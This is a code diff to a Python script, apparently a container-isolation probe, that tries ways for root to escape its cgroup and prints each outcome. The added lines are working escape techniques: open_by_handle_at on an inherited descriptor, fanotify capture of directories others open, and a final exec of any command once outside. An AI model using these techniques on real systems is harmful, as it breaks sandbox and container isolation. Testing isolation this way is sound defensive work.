@@ -1,16 +1,19 @@
-"""Tries each way for root out of its cgroup, then says where it is: leave.py CGROUP2_MOUNT NETNS_FILE [FD]
+"""Tries each way for root out of its cgroup, says where it is, and becomes a command: leave.py CGROUP2_MOUNT NETNS_FILE FD COMMAND...
 
 stdout: a line "WAY OUTCOME" each, then "cgroup PATH". The mount is one that stands in the mount table, or "-"; the descriptor is that of a
-directory or file of a cgroup that was open at the start.
+directory or file of a cgroup that was open at the start. Standard input is /dev/null, opened outside; there somebody opens the directory of
+the mount again and again.
 """
 import ctypes
 import errno
 import os
+import select
 import struct
 import sys
 
 libc = ctypes.CDLL(None, use_errno=True)
-SYS = {"setns": 308, "clone3": 435, "fsopen": 430, "fsconfig": 431, "fsmount": 432, "open_tree": 428, "mount_setattr": 442}
+SYS = {"setns": 308, "clone3": 435, "fsopen": 430, "fsconfig": 431, "fsmount": 432, "open_tree": 428, "mount_setattr": 442,
+       "name_to_handle_at": 303, "open_by_handle_at": 304, "fanotify_init": 300, "fanotify_mark": 301}
 
 
 def call(name, *arguments):
@@ -74,11 +77,40 @@ def by_descriptor(fd):
     os.write(out, b"0")
 
 
+def join_from(directory, point):
+    """By ".." through the mounts that the directory stands in, which are those outside."""
+    path = os.path.relpath(point + "/cgroup.procs", os.readlink("/proc/self/fd/%d" % directory))
+    by_path = os.open(path, os.O_WRONLY, dir_fd=directory)
+    os.write(by_path, b"0")
+
+
+def handle(point):
+    """open_by_handle_at(2) takes the mount of any descriptor: /dev/null opened outside is as good as another."""
+    file, mount_id = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128), ctypes.c_int()
+    call("name_to_handle_at", -100, b"/dev", file, ctypes.byref(mount_id), 0)
+    join_from(call("open_by_handle_at", 0, file, os.O_RDONLY), point)
+
+
+def notification(point):
+    """fanotify(7) hands over what others open, in their mounts."""
+    group = call("fanotify_init", 0, os.O_RDONLY)
+    # FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN | FAN_ONDIR
+    call("fanotify_mark", group, 0x101, ctypes.c_uint64(0x40000020), -100, os.path.dirname(point).encode())
+    for _ in range(100):
+        if not select.select([group], [], [], 5)[0]:
+            break
+        for event in struct.iter_unpack("IBBHQii", os.read(group, 24)):
+            if event[5] >= 0 and event[6] != os.getpid() and os.path.isdir("/proc/self/fd/%d" % event[5]):
+                return join_from(event[5], point)
+            os.close(event[5])
+    raise OSError(errno.ETIMEDOUT, "nobody opens anything")
+
+
 def namespace(path, kind):
     call("setns", os.open(path, os.O_RDONLY), kind)
 
 
-point, netns = sys.argv[1:3]
+point, netns, inherited = sys.argv[1:4]
 ways = [
     ("mount", lambda: new_mount(0)),
     ("mount-with-the-old-magic", lambda: new_mount(0xC0ED0000)),
@@ -95,9 +127,10 @@ if point != "-":
         ("clone-of-the-mount", lambda: cloned_tree(point)),
         ("clone-into", lambda: clone_into(point)),
         ("root-of-init", lambda: join("/proc/1/root" + point)),
+        ("handle", lambda: handle(point)),
+        ("notification", lambda: notification(point)),
     ]
-if len(sys.argv) > 3:
-    ways.append(("descriptor", lambda: by_descriptor(int(sys.argv[3]))))
+ways.append(("descriptor", lambda: by_descriptor(int(inherited))))
 for name, way in ways:
     try:
         way()
@@ -106,4 +139,5 @@ for name, way in ways:
         print(name, errno.errorcode[e.errno], flush=True)
 for line in open("/proc/self/cgroup"):
     if line.startswith("0::"):
-        print("cgroup", line[3:].strip())
+        print("cgroup", line[3:].strip(), flush=True)
+os.execv(sys.argv[4], sys.argv[4:])
